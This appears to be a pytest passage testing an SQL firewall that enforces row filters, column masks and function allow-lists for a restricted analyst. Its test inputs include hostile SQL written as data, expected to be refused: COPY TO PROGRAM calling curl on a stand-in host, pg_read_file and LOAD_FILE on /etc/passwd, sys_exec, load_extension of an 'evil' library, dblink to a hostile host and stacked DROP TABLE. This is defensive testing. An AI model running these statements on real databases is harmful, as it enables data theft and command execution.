"""The SQL firewall on its own: no database, just decisions and the SQL it would run.

Ana is an analyst who sees EMEA rows only; contacts' personal data is masked for her, customers'
phone numbers do not exist for her, and payments are not in her catalog at all.
"""

from __future__ import annotations

import pytest
import sqlglot
from sqlglot import exp

import governance.firewall.check as check_module
from governance.firewall import (
    CODES,
    FirewallDecision,
    FirewallPolicy,
    MaskStrategy,
    VisibleTable,
    check_sql,
)

EMEA = sqlglot.condition("region = 'EMEA'")

CUSTOMERS = VisibleTable(
    "billing",
    "customers",
    ("id", "name", "email", "region", "segment"),  # phone exists in the table, not for Ana
    row_filter=EMEA,
    masks={"email": MaskStrategy.HASH},
    policies=("emea_only", "hash_customer_email"),
)
CONTACTS = VisibleTable(
    "crm",
    "contacts",
    ("id", "customer_id", "first_name", "email", "phone", "title", "region", "date_of_birth"),
    row_filter=EMEA,
    masks={"email": MaskStrategy.PARTIAL, "phone": MaskStrategy.REDACT, "date_of_birth": MaskStrategy.NULL},
    policies=("emea_only", "mask_contact_pii"),
)
INVOICES = VisibleTable("billing", "invoices", ("id", "number", "total_amount", "region"))
ANA = FirewallPolicy(dialect="postgres", tables=(CUSTOMERS, CONTACTS, INVOICES), default_schema="public")
ANA_WRITES = FirewallPolicy(
    dialect="postgres",
    tables=(CUSTOMERS, CONTACTS, INVOICES),
    default_schema="public",
    allowed_kinds=frozenset({"select", "insert", "update", "delete", "ddl"}),
)


def flat(table: VisibleTable, schema: str = "") -> VisibleTable:
    """The same table where the engine has no schemas: billing_customers."""
    return VisibleTable(schema, f"{table.schema}_{table.name}", table.columns, table.row_filter, table.masks,
                        table.policies)  # fmt: skip


def policy_for(dialect: str) -> FirewallPolicy:
    if dialect == "postgres":
        return ANA
    schema = "main" if dialect == "duckdb" else ""
    return FirewallPolicy(dialect=dialect, tables=tuple(flat(t, schema) for t in (CUSTOMERS, CONTACTS, INVOICES)))


def refused(sql: str, policy: FirewallPolicy = ANA) -> str:
    decision = check_sql(sql, policy)
    assert not decision.allowed and decision.sql_after is None, decision
    assert decision.code in CODES and decision.reason
    return decision.code


def allowed(sql: str, policy: FirewallPolicy = ANA) -> FirewallDecision:
    decision = check_sql(sql, policy)
    assert decision.allowed, decision
    assert decision.code == "ok" and decision.sql_after is not None
    return decision


def parsed(decision: FirewallDecision, dialect: str = "postgres") -> exp.Expr:
    assert decision.sql_after is not None
    return sqlglot.parse_one(decision.sql_after, read=dialect)


def base_tables(decision: FirewallDecision, dialect: str = "postgres") -> list[str]:
    """The real tables the rewritten SQL reads, as schema.name."""
    return sorted(f"{t.db}.{t.name}" for t in parsed(decision, dialect).find_all(exp.Table) if t.db)


# --- step 1: parsing ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql", ["", "   ", ";", "-- only a comment", "/* nothing */", "SELEC 1", "SELECT (1", "SELECT 1 . region"]
)
def test_empty_or_unparsable_statements_are_refused(sql: str) -> None:
    assert refused(sql) == "sql_parse_error"


def test_an_absurdly_long_statement_is_refused_before_parsing() -> None:
    assert refused("SELECT " + "1 + " * 40_000 + "1") == "sql_parse_error"


def test_absurd_nesting_is_refused_not_a_crash() -> None:
    decision = check_sql("SELECT " + "(" * 3000 + "1" + ")" * 3000, ANA)
    assert decision.code in ("ok", "sql_parse_error")


@pytest.mark.parametrize(
    "sql",
    ["SELECT 1; DROP TABLE billing.customers", "SELECT 1 --\n; DROP TABLE x", "SELECT 1; SELECT 2",
     "SELECT 1 /* ; */; DELETE FROM crm.contacts"],
)  # fmt: skip
def test_more_than_one_statement_is_refused(sql: str) -> None:
    assert refused(sql) == "sql_multiple_statements"


@pytest.mark.parametrize(
    "sql", ["SELECT 1;", "SELECT 1; -- bye", "SELECT 1;;", "SELECT/**/1", "/* hi */ SELECT 1 -- x"]
)
def test_trailing_semicolons_and_comments_are_one_statement(sql: str) -> None:
    assert allowed(sql).sql_after == "SELECT 1 LIMIT 1000"


def test_comments_never_reach_the_engine() -> None:
    decision = allowed("SELECT /* keep? */ count(*) -- note\nFROM billing.customers /*! UNION SELECT 1 */")
    assert decision.sql_after is not None
    assert "/*" not in decision.sql_after and "--" not in decision.sql_after


# --- step 2: statement kinds and forbidden constructs ------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("INSERT INTO billing.invoices (id) VALUES (1)", "insert"),
        ("UPDATE crm.contacts SET title = 'x'", "update"),
        ("DELETE FROM crm.contacts", "delete"),
        ("MERGE INTO billing.invoices t USING billing.invoices s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"),
        ("DROP TABLE billing.invoices", "ddl"),
        ("CREATE TABLE x (id int)", "ddl"),
        ("TRUNCATE billing.invoices", "ddl"),
        ("WITH gone AS (DELETE FROM crm.contacts RETURNING *) SELECT * FROM gone", "delete"),
        ("WITH x AS (INSERT INTO billing.invoices (id) VALUES (1) RETURNING id) SELECT * FROM x", "insert"),
    ],
)
def test_only_the_allowed_statement_kinds_pass(sql: str, kind: str) -> None:
    decision = check_sql(sql, ANA)
    assert (decision.code, decision.statement_kind) == ("sql_statement_not_allowed", kind)


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT * INTO stolen FROM billing.customers"),
        ("postgres", "SELECT * FROM billing.customers FOR UPDATE"),
        ("postgres", "SELECT * FROM (SELECT * FROM billing.customers FOR SHARE) x"),
        ("postgres", "COPY billing.customers TO PROGRAM 'curl evil.example'"),
        ("postgres", "COPY (SELECT 1) TO '/tmp/x'"),
        ("postgres", "LOCK TABLE billing.customers"),
        ("postgres", "SET search_path = crm"),
        ("postgres", "SET LOCAL statement_timeout = 0"),
        ("postgres", "CALL do_things()"),
        ("postgres", "VACUUM"),
        ("postgres", "GRANT SELECT ON billing.customers TO public"),
        ("postgres", "BEGIN"),
        ("postgres", "COMMIT"),
        ("postgres", "ROLLBACK"),
        ("postgres", "START TRANSACTION"),
        ("postgres", "DO $$BEGIN PERFORM 1; END$$"),
        ("postgres", "PREPARE p AS SELECT 1"),
        ("postgres", "SELECT 'billing.payments'::regclass"),
        ("postgres", "SELECT $1"),
        ("mysql", "SELECT * FROM billing_customers INTO OUTFILE '/tmp/x'"),
        ("mysql", "SELECT * INTO DUMPFILE '/tmp/x' FROM billing_customers"),
        ("mysql", "SELECT * FROM billing_customers LOCK IN SHARE MODE"),
        ("mysql", "SELECT @@datadir"),
        ("mysql", "SELECT /*+ SET_VAR(sql_mode='') */ 1"),
        ("mysql", "HANDLER billing_customers OPEN"),
        ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE billing_customers"),
        ("sqlite", "ATTACH DATABASE '/tmp/other.db' AS other"),
        ("sqlite", "DETACH other"),
        ("sqlite", "PRAGMA writable_schema = ON"),
        ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
        ("duckdb", "INSTALL httpfs"),
        ("duckdb", "LOAD httpfs"),
        ("duckdb", "ATTACH 'other.db'"),
        ("duckdb", "EXPORT DATABASE '/tmp/dump'"),
        ("duckdb", "COPY main.billing_customers TO '/tmp/x.csv'"),
        ("duckdb", "SET enable_external_access = true"),
        ("duckdb", "PRAGMA enable_profiling"),
        ("duckdb", "CALL pragma_version()"),
    ],
)
def test_forbidden_constructs_are_refused_wherever_they_appear(dialect: str, sql: str) -> None:
    assert refused(sql, policy_for(dialect)) == "sql_forbidden_construct"


@pytest.mark.parametrize("sql", ["SHOW ALL", "EXPLAIN SELECT 1", "CHECKPOINT", "LISTEN x"])
def test_other_statements_are_refused(sql: str) -> None:
    assert refused(sql) in ("sql_statement_not_allowed", "sql_forbidden_construct")


# --- step 3: functions -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT pg_sleep(10)"),
        ("postgres", "SELECT pg_sleep_for('1 minute')"),
        ("postgres", "SELECT pg_read_file('/etc/passwd')"),
        ("postgres", "SELECT pg_read_binary_file('/etc/passwd')"),
        ("postgres", "SELECT * FROM pg_ls_dir('.')"),
        ("postgres", "SELECT pg_stat_file('postgresql.conf')"),
        ("postgres", "SELECT lo_import('/etc/passwd')"),
        ("postgres", "SELECT lo_export(1, '/tmp/x')"),
        ("postgres", "SELECT lo_get(1)"),
        ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)"),
        ("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')"),
        ("postgres", "SELECT set_config('search_path', 'crm', false)"),
        ("postgres", "SELECT current_setting('data_directory')"),
        ("postgres", "SELECT pg_terminate_backend(1)"),
        ("postgres", "SELECT pg_cancel_backend(1)"),
        ("postgres", "SELECT pg_advisory_lock(1)"),
        ("postgres", "SELECT txid_current()"),
        ("postgres", "SELECT query_to_xml('SELECT * FROM billing.payments', true, false, '')"),
        ("postgres", "SELECT table_to_xml('billing.payments', true, false, '')"),
        ("postgres", "SELECT pg_catalog.pg_sleep(1)"),
        ("postgres", "SELECT pg_catalog.lower('x')"),
        ("postgres", 'SELECT "lower_evil"(name) FROM billing.customers'),
        ("postgres", "SELECT * FROM pg_catalog.pg_sleep(1)"),
        ("postgres", "SELECT version()"),
        ("postgres", "SELECT * FROM jsonb_each('{}')"),
        ("postgres", "SELECT * FROM upper('x')"),
        ("mysql", "SELECT SLEEP(5)"),
        ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))"),
        ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
        ("mysql", "SELECT GET_LOCK('x', 10)"),
        ("mysql", "SELECT RELEASE_LOCK('x')"),
        ("mysql", "SELECT sys_exec('id')"),
        ("mysql", "SELECT USER()"),
        ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
        ("sqlite", "SELECT readfile('/etc/passwd')"),
        ("sqlite", "SELECT writefile('/tmp/x', 'y')"),
        ("sqlite", "SELECT fts3_tokenizer('simple')"),
        ("sqlite", "SELECT * FROM pragma_table_info('billing_payments')"),
        ("sqlite", "SELECT randomblob(1000000000)"),
        ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
        ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')"),
        ("duckdb", "SELECT * FROM read_parquet('/tmp/x.parquet')"),
        ("duckdb", "SELECT * FROM parquet_scan('/tmp/x.parquet')"),
        ("duckdb", "SELECT * FROM read_json_auto('/tmp/x.json')"),
        ("duckdb", "SELECT * FROM read_text('/etc/passwd')"),
        ("duckdb", "SELECT * FROM read_blob('/etc/passwd')"),
        ("duckdb", "SELECT * FROM glob('/etc/*')"),
        ("duckdb", "SELECT * FROM query('SELECT * FROM billing_payments')"),
        ("duckdb", "SELECT * FROM query_table('billing_payments')"),
        ("duckdb", "SELECT getenv('HOME')"),
        ("duckdb", "SELECT current_setting('temp_directory')"),
        ("duckdb", "SELECT * FROM duckdb_tables()"),
        ("duckdb", "SELECT 'x'.upper()"),
    ],
)
def test_functions_off_the_allow_list_are_refused(dialect: str, sql: str) -> None:
    assert refused(sql, policy_for(dialect)) == "sql_forbidden_function"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "SELECT count(*), sum(total_amount), avg(total_amount), round(max(total_amount), 2) "
                     "FROM billing.invoices"),
        ("postgres", "SELECT date_trunc('month', now()), extract(year FROM current_date), coalesce(NULL, 1)"),
        ("postgres", "SELECT string_agg(first_name, ', ' ORDER BY first_name), array_agg(id) FROM crm.contacts"),
        ("postgres", "SELECT row_number() OVER (PARTITION BY region ORDER BY id), lag(id) OVER w FROM crm.contacts "
                     "WINDOW w AS (ORDER BY id)"),
        ("postgres", "SELECT CASE WHEN total_amount > 10 THEN 'big' ELSE 'small' END, total_amount::int "
                     "FROM billing.invoices"),
        ("postgres", "SELECT lower(name), upper(name), initcap(name), substring(name FROM 1 FOR 3), name || '!' "
                     "FROM billing.customers"),
        ("postgres", "SELECT '{\"a\": 1}'::jsonb -> 'a', json_build_object('a', 1), xpath('/a', '<a/>')"),
        ("postgres", "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total_amount) FROM billing.invoices"),
        ("postgres", "SELECT count(*) FILTER (WHERE total_amount > 1) FROM billing.invoices"),
        ("postgres", "SELECT g FROM generate_series(1, 10) AS g"),
        ("postgres", "SELECT * FROM unnest(ARRAY[1, 2, 3]) AS u(x)"),
        ("mysql", "SELECT DATE_FORMAT(NOW(), '%Y'), IFNULL(NULL, 1), CONCAT('a', 'b'), GROUP_CONCAT(id) "
                  "FROM billing_invoices"),
        ("sqlite", "SELECT strftime('%Y', 'now'), ifnull(NULL, 1), printf('%d', 1), group_concat(id) "
                   "FROM billing_invoices"),
        ("duckdb", "SELECT * FROM range(10) AS r"),
        ("duckdb", "SELECT date_trunc('month', now()), list_value(1, 2), strftime(now(), '%Y')"),
    ],
)  # fmt: skip
def test_ordinary_analytics_functions_are_allowed(dialect: str, sql: str) -> None:
    allowed(sql, policy_for(dialect))


# --- step 4: tables, scopes and names ----------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM billing.payments",
        "SELECT * FROM billing.does_not_exist",
        "SELECT * FROM (SELECT * FROM billing.payments) p",
        "SELECT id FROM billing.customers UNION SELECT id FROM billing.payments",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM billing.payments)",
        "WITH p AS (SELECT * FROM billing.payments) SELECT * FROM p",
        "SELECT * FROM billing.customers c, LATERAL (SELECT * FROM billing.payments) p",
        "SELECT * FROM customers",  # unqualified: public.customers
        "SELECT * FROM public.customers",
        'SELECT * FROM "billing"."Customers"',  # quoted: another table in PostgreSQL
        'SELECT * FROM "Billing".customers',
        'SELECT * FROM "billing.customers"',
        "SELECT * FROM promptstudio.billing.customers",  # a catalog part
        "SELECT * FROM a.billing.customers.x",
        "SELECT * FROM pg_catalog.pg_tables",
        "SELECT * FROM information_schema.columns",
        "SELECT * FROM billing.customers\u200b",  # zero-width space
        "SELECT * FROM bil\u200bling.customers",
        "SELECT * FROM billing.cus\u00adtomers",  # soft hyphen
        "SELECT * FROM \uff42\uff49\uff4c\uff4c\uff49\uff4e\uff47.customers",  # fullwidth "billing"
        "SELECT * FROM billing.\u0441ustomers",  # Cyrillic es
        "SELECT * FROM billing.customer\u212a",  # Kelvin sign, which str.lower() folds to "k"
    ],
)
def test_tables_outside_the_catalog_are_unknown(sql: str) -> None:
    assert refused(sql) == "sql_unknown_table"


def test_a_hidden_table_and_a_missing_one_get_the_same_words() -> None:
    hidden = check_sql("SELECT * FROM billing.payments", ANA)
    missing = check_sql("SELECT * FROM billing.paymentz", ANA)
    assert hidden.reason.replace("payments", "X") == missing.reason.replace("paymentz", "X")


@pytest.mark.parametrize(
    "sql",
    ["SELECT count(*) FROM BILLING.CUSTOMERS", "SELECT count(*) FROM Billing.Customers",
     'SELECT count(*) FROM "billing"."customers"', "SELECT count(*) FROM billing . customers"],
)  # fmt: skip
def test_unquoted_names_fold_like_postgresql_does(sql: str) -> None:
    assert base_tables(allowed(sql)) == ["billing.customers"]


@pytest.mark.parametrize("dialect", ["sqlite", "duckdb", "mysql"])
@pytest.mark.parametrize(
    "name", ["billing_customers", "BILLING_CUSTOMERS", '"Billing_Customers"', "main.billing_customers"]
)
def test_names_fold_like_the_schemaless_engines_do(dialect: str, name: str) -> None:
    if dialect == "mysql" and name.startswith("main."):
        pytest.skip("MySQL has no main schema")
    if dialect == "mysql":
        name = name.replace('"', "`")
    decision = allowed(f"SELECT count(*) FROM {name}", policy_for(dialect))
    expected = "main.billing_customers" if dialect == "duckdb" else "billing_customers"
    assert decision.tables == (expected,)


def test_a_cte_named_like_a_table_is_the_cte_in_its_own_scope() -> None:
    decision = allowed("WITH customers AS (SELECT 1 AS id) SELECT id FROM customers")
    assert decision.tables == () and base_tables(decision) == []


def test_a_cte_does_not_shadow_a_qualified_table() -> None:
    decision = allowed("WITH customers AS (SELECT 1 AS id) SELECT * FROM (SELECT * FROM billing.customers) x")
    assert decision.tables == ("billing.customers",)
    assert base_tables(decision) == ["billing.customers"]


@pytest.mark.parametrize(
    "sql",
    [
        # The inner WITH ends with its subquery: the second reference is the real table.
        "SELECT * FROM (WITH billing_customers AS (SELECT 'x' AS email) SELECT * FROM billing_customers) a, "
        "billing_customers b",
        # A non-recursive CTE does not see itself: its body reads the real table.
        "WITH billing_customers AS (SELECT * FROM billing_customers) SELECT email FROM billing_customers",
        # A CTE only sees the CTEs before it.
        "WITH a AS (SELECT * FROM billing_customers), billing_customers AS (SELECT 1 AS id) SELECT * FROM a",
        # A CTE in one branch of a UNION does not exist in the other.
        "SELECT id FROM (WITH billing_customers AS (SELECT 1 AS id) SELECT id FROM billing_customers) x "
        "UNION ALL SELECT id FROM billing_customers",
    ],
)
def test_a_cte_cannot_hide_the_real_table_outside_its_scope(sql: str) -> None:
    decision = allowed(sql, policy_for("sqlite"))
    assert decision.tables == ("billing_customers",)
    assert base_tables(decision, "sqlite") == ["main.billing_customers"]


@pytest.mark.parametrize(
    "sql",
    [
        # DuckDB reads a RECURSIVE CTE without UNION as a plain CTE: its own name is the real table.
        "WITH RECURSIVE billing_customers AS (SELECT * FROM billing_customers) SELECT email FROM billing_customers",
        # The anchor of a recursive CTE cannot refer to the CTE.
        "WITH RECURSIVE billing_customers AS (SELECT * FROM billing_customers UNION ALL "
        "SELECT * FROM billing_customers WHERE 1 = 0) SELECT email FROM billing_customers",
        # SQLite and MariaDB let a CTE see later siblings: the firewall reads the real table, safely.
        "WITH RECURSIVE a AS (SELECT * FROM billing_customers), billing_customers AS (SELECT 1 AS id) SELECT * FROM a",
    ],
)
def test_only_the_recursive_term_of_a_recursive_cte_refers_to_it(sql: str) -> None:
    decision = allowed(sql, policy_for("duckdb"))
    assert base_tables(decision, "duckdb") == ["main.billing_customers"]


def test_a_recursive_cte_refers_to_itself() -> None:
    decision = allowed(
        "WITH RECURSIVE billing_customers(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM billing_customers WHERE n < 5) "
        "SELECT n FROM billing_customers",
        policy_for("sqlite"),
    )
    assert decision.tables == ()


# --- step 5: columns ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT phone FROM billing.customers",
        "SELECT c.phone FROM billing.customers c",
        "SELECT count(*) FROM billing.customers WHERE phone LIKE '+1%'",
        "SELECT id FROM billing.customers ORDER BY phone",
        "SELECT x.phone FROM (SELECT * FROM billing.customers) x",
        "WITH c AS (SELECT id FROM billing.customers) SELECT c.email FROM c",
        "SELECT email FROM billing.customers, crm.contacts",  # in both: ambiguous
        "SELECT ctid, xmin FROM billing.customers",
        "SELECT c.nope FROM crm.contacts c",
    ],
)
def test_columns_the_actor_cannot_see_are_unknown(sql: str) -> None:
    assert refused(sql) == "sql_unknown_column"


FAST_PATH_CASES = [
    "WITH r AS (SELECT id AS rid FROM billing.customers) SELECT x.id FROM r x",
    "SELECT t.email FROM (SELECT id FROM crm.contacts) t",
    "WITH r AS (SELECT id FROM billing.customers) SELECT x.id FROM r x",
    "SELECT c.name AS n FROM billing.customers c JOIN crm.contacts k ON k.customer_id = c.id ORDER BY n",
    "SELECT id FROM billing.customers c JOIN crm.contacts k ON k.customer_id = c.id",
    "SELECT k.phone FROM billing.customers c JOIN crm.contacts k ON k.customer_id = c.id",
    "SELECT c.phone FROM billing.customers c JOIN crm.contacts k ON k.customer_id = c.id",
    "SELECT (SELECT count(*) FROM crm.contacts k WHERE k.customer_id = id) FROM billing.customers",
    "WITH c AS (SELECT * FROM billing.customers) SELECT c.phone FROM c",
    "SELECT region, count(*) FROM crm.contacts GROUP BY region ORDER BY 2",
]


@pytest.mark.parametrize("sql", FAST_PATH_CASES)
def test_the_columns_fast_path_never_changes_a_decision(sql: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Skipping sqlglot's qualify when every column plainly names a visible one is only a shortcut:
    # the decision is the same as with qualify always run.
    fast = check_sql(sql, ANA)
    monkeypatch.setattr(check_module._Analysis, "columns_plainly_known", lambda *_: False)
    slow = check_sql(sql, ANA)
    assert (fast.allowed, fast.code, fast.sql_after) == (slow.allowed, slow.code, slow.sql_after)


def test_a_hidden_column_and_a_missing_one_get_the_same_words() -> None:
    hidden = check_sql("SELECT phone FROM billing.customers", ANA)
    missing = check_sql("SELECT fone FROM billing.customers", ANA)
    assert hidden.reason.replace("phone", "X") == missing.reason.replace("fone", "X")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT row_to_json(c) FROM crm.contacts c",
        "SELECT c FROM crm.contacts c",
        "SELECT region, count(*) AS n FROM crm.contacts GROUP BY region HAVING count(*) > 1 ORDER BY n DESC",
        "SELECT name AS who FROM billing.customers GROUP BY who",
        "SELECT x.email FROM billing.customers c JOIN crm.contacts x ON x.customer_id = c.id",
        "SELECT id FROM billing.customers JOIN crm.contacts USING (id)",
        "SELECT billing.customers.email FROM billing.customers",
    ],
)
def test_resolvable_columns_are_allowed(sql: str) -> None:
    allowed(sql)


# --- step 6: the rewrite -----------------------------------------------------------------------


def test_every_catalog_reference_becomes_a_filtered_masked_subquery() -> None:
    decision = allowed("SELECT * FROM billing.customers")
    assert decision.sql_after == (
        'SELECT * FROM (SELECT "id", "name", MD5(CAST("customers"."email" AS TEXT)) AS "email", "region", '
        '"segment" FROM "billing"."customers" AS "customers" '
        "WHERE \"customers\".region = 'EMEA' OFFSET 0) AS customers LIMIT 1000"
    )
    assert decision.tables == ("billing.customers",)
    assert decision.policies_applied == ("emea_only", "hash_customer_email")


def test_the_alias_of_the_reference_is_kept() -> None:
    tree = parsed(allowed("SELECT c.name FROM billing.customers AS c WHERE c.region = 'NA' OR 1 = 1"))
    subquery = tree.find(exp.Subquery)
    assert subquery is not None and subquery.alias == "c"
    # the user's OR 1 = 1 stays outside, above the row filter
    assert "'EMEA'" in subquery.sql(dialect="postgres") and "1 = 1" not in subquery.sql(dialect="postgres")


def test_the_table_name_qualifying_a_column_still_works() -> None:
    assert "billing.customers.id" not in (allowed("SELECT billing.customers.id FROM billing.customers").sql_after or "")


def test_every_reference_is_rewritten_in_joins_subqueries_ctes_and_unions() -> None:
    decision = allowed(
        "WITH k AS (SELECT * FROM crm.contacts) "
        "SELECT c.id FROM billing.customers c JOIN k ON k.customer_id = c.id "
        "WHERE EXISTS (SELECT 1 FROM crm.contacts x WHERE x.id = k.id) "
        "UNION SELECT id FROM (SELECT id FROM billing.customers) y"
    )
    assert base_tables(decision) == ["billing.customers", "billing.customers", "crm.contacts", "crm.contacts"]
    assert decision.tables == ("crm.contacts", "billing.customers")
    assert decision.policies_applied == ("emea_only", "mask_contact_pii", "hash_customer_email")


def test_a_parenthesised_join_keeps_its_join() -> None:
    decision = allowed("SELECT count(*) FROM (billing.customers c JOIN crm.contacts x ON x.customer_id = c.id)")
    assert base_tables(decision) == ["billing.customers", "crm.contacts"]


def test_masks_are_expressions_inside_the_subquery() -> None:
    sql = allowed("SELECT email, phone, date_of_birth FROM crm.contacts").sql_after or ""
    assert "CAST('***' AS TEXT) AS \"phone\"" in sql
    assert 'NULL AS "date_of_birth"' in sql
    assert "LIKE '%_@_%'" in sql and "RIGHT(" in sql


@pytest.mark.parametrize(
    ("dialect", "expected"),
    [
        ("postgres", "MD5(CAST(\"customers\".\"email\" AS TEXT)) AS \"email\""),
        ("mysql", "MD5(CAST(`billing_customers`.`email` AS CHAR)) AS `email`"),
        ("duckdb", "MD5(CAST(\"billing_customers\".\"email\" AS TEXT)) AS \"email\""),
        ("sqlite", "CAST('***' AS TEXT) AS \"email\""),  # no hash function in SQLite: redacted
    ],
)  # fmt: skip
def test_hash_masks_per_dialect(dialect: str, expected: str) -> None:
    table = "billing.customers" if dialect == "postgres" else "billing_customers"
    assert expected in (allowed(f"SELECT email FROM {table}", policy_for(dialect)).sql_after or "")


def test_a_salt_goes_into_the_hash() -> None:
    salted = FirewallPolicy(dialect="postgres", tables=(CUSTOMERS,), hash_salt="pepper")
    assert "MD5('pepper' || CAST(" in (allowed("SELECT email FROM billing.customers", salted).sql_after or "")


@pytest.mark.parametrize(
    ("dialect", "fence"),
    [
        ("postgres", "OFFSET 0)"),
        ("duckdb", "OFFSET 0)"),
        ("sqlite", "LIMIT -1)"),
        ("mysql", "LIMIT 18446744073709551615)"),
    ],
)
def test_filtered_subqueries_are_fenced_against_predicate_pushdown(dialect: str, fence: str) -> None:
    table = "billing.customers" if dialect == "postgres" else "billing_customers"
    assert fence in (allowed(f"SELECT id FROM {table}", policy_for(dialect)).sql_after or "")
    invoices = "billing.invoices" if dialect == "postgres" else "billing_invoices"
    assert fence not in (allowed(f"SELECT id FROM {invoices}", policy_for(dialect)).sql_after or "")


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT id FROM billing.invoices", "LIMIT 1000"),
        ("SELECT id FROM billing.invoices LIMIT 10", "LIMIT 10"),
        ("SELECT id FROM billing.invoices LIMIT 1000000", "LIMIT 1000"),
        ("SELECT id FROM billing.invoices LIMIT 5000 OFFSET 10", "LIMIT 1000 OFFSET 10"),
        ("SELECT id FROM billing.invoices FETCH FIRST 5000 ROWS ONLY", "FETCH FIRST 1000 ROWS ONLY"),
        ("SELECT id FROM billing.invoices UNION SELECT 1", "UNION SELECT 1 LIMIT 1000"),
        ("SELECT id FROM billing.invoices UNION SELECT 1 LIMIT 99999", "UNION SELECT 1 LIMIT 1000"),
        ("SELECT id FROM billing.invoices LIMIT ALL", ") AS _fw_limited LIMIT 1000"),
        ("SELECT id FROM billing.invoices LIMIT (SELECT 5000)", ") AS _fw_limited LIMIT 1000"),
        ("SELECT id FROM billing.invoices FETCH FIRST 5 ROWS WITH TIES", ") AS _fw_limited LIMIT 1000"),
        ("VALUES (1), (2)", ") AS _fw_limited LIMIT 1000"),
    ],
)
def test_the_outermost_query_is_limited(sql: str, expected: str) -> None:
    assert (allowed(sql).sql_after or "").endswith(expected)


def test_the_limit_of_an_inner_query_is_left_alone() -> None:
    sql = allowed("SELECT * FROM (SELECT id FROM billing.invoices LIMIT 50000) x").sql_after or ""
    assert "LIMIT 50000" in sql and sql.endswith(") AS x LIMIT 1000")


def test_a_policy_condition_is_copied_not_shared() -> None:
    before = EMEA.sql()
    allowed("SELECT * FROM billing.customers a, billing.customers b")
    assert EMEA.sql() == before and EMEA.parent is None


# --- writes and DDL (when the policy allows them) ----------------------------------------------


def test_update_and_delete_only_touch_rows_the_actor_sees() -> None:
    update = allowed("UPDATE crm.contacts SET title = 'CTO' WHERE id = 7", ANA_WRITES)
    assert update.sql_after == (
        'UPDATE "crm"."contacts" SET title = \'CTO\' WHERE ("contacts".region = \'EMEA\') '
        "AND CASE WHEN (\"contacts\".region = 'EMEA') THEN (id = 7) ELSE FALSE END"
    )
    delete = allowed("DELETE FROM crm.contacts c", ANA_WRITES)
    assert delete.sql_after == 'DELETE FROM "crm"."contacts" AS c WHERE c.region = \'EMEA\''
    assert delete.policies_applied == ("emea_only", "mask_contact_pii")


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("UPDATE crm.contacts SET email = 'x@example.com'", "sql_masked_column"),
        ("UPDATE crm.contacts SET title = email", "sql_masked_column"),
        ("DELETE FROM crm.contacts WHERE email LIKE 'a%'", "sql_masked_column"),
        ("DELETE FROM crm.contacts c WHERE EXISTS (SELECT 1 FROM billing.invoices i WHERE i.number = c.phone)",
         "sql_masked_column"),
        ("UPDATE crm.contacts SET region = 'NA'", "sql_statement_not_allowed"),
        ("UPDATE billing.customers SET name = 'x' WHERE phone = '1'", "sql_unknown_column"),
        ("DELETE FROM billing.customers WHERE EXISTS (SELECT 1 FROM billing.invoices WHERE phone = '1')",
         "sql_unknown_column"),
        ("DELETE FROM crm.contacts RETURNING *", "sql_unknown_column"),
        ("UPDATE crm.contacts SET title = 'x' RETURNING email", "sql_masked_column"),
        ("INSERT INTO crm.contacts (id, title) VALUES (1, 'x')", "sql_statement_not_allowed"),
        ("INSERT INTO billing.invoices VALUES (1, 'x', 2, 'EMEA')", "sql_statement_not_allowed"),
        ("INSERT INTO billing.invoices (id, secret) VALUES (1, 'x')", "sql_unknown_column"),
        ("INSERT INTO billing.invoices (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET number = 'x'",
         "sql_forbidden_construct"),
        ("INSERT INTO billing.invoices (id) SELECT id FROM billing.payments", "sql_unknown_table"),
        ("UPDATE billing.payments SET amount = 0", "sql_unknown_table"),
        ("MERGE INTO billing.invoices t USING billing.invoices s ON t.id = s.id WHEN MATCHED THEN DELETE",
         "sql_statement_not_allowed"),
    ],
)  # fmt: skip
def test_writes_cannot_read_or_change_what_the_actor_cannot_see(sql: str, code: str) -> None:
    assert refused(sql, ANA_WRITES) == code


def test_a_filtered_write_still_reads_other_tables_through_the_rewrite() -> None:
    # The write's own row filter guards its WHERE (twice: ANDed, and as the CASE's WHEN); a table
    # read inside that WHERE must still become the protected subquery (a copy of the WHERE taken
    # after the walk once escaped it).
    decision = allowed(
        "UPDATE crm.contacts SET title = 'x' WHERE customer_id IN (SELECT c.id FROM billing.customers c)",
        ANA_WRITES,
    )
    assert decision.sql_after is not None
    assert decision.sql_after.count("region = 'EMEA'") == 3, decision.sql_after
    assert 'FROM "billing"."customers" AS "customers" WHERE' in decision.sql_after, decision.sql_after


def test_an_insert_reads_through_the_same_rewrite() -> None:
    decision = allowed("INSERT INTO billing.invoices (id, number) SELECT id, email FROM crm.contacts", ANA_WRITES)
    assert decision.sql_after is not None and decision.sql_after.startswith(
        'INSERT INTO "billing"."invoices" (id, number)'
    )
    assert base_tables(decision) == ["billing.invoices", "crm.contacts"]
    assert "LIKE '%_@_%'" in decision.sql_after  # the copied e-mails are the masked ones


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("DROP TABLE crm.contacts", "sql_statement_not_allowed"),  # Ana does not see all of it
        ("TRUNCATE crm.contacts", "sql_statement_not_allowed"),
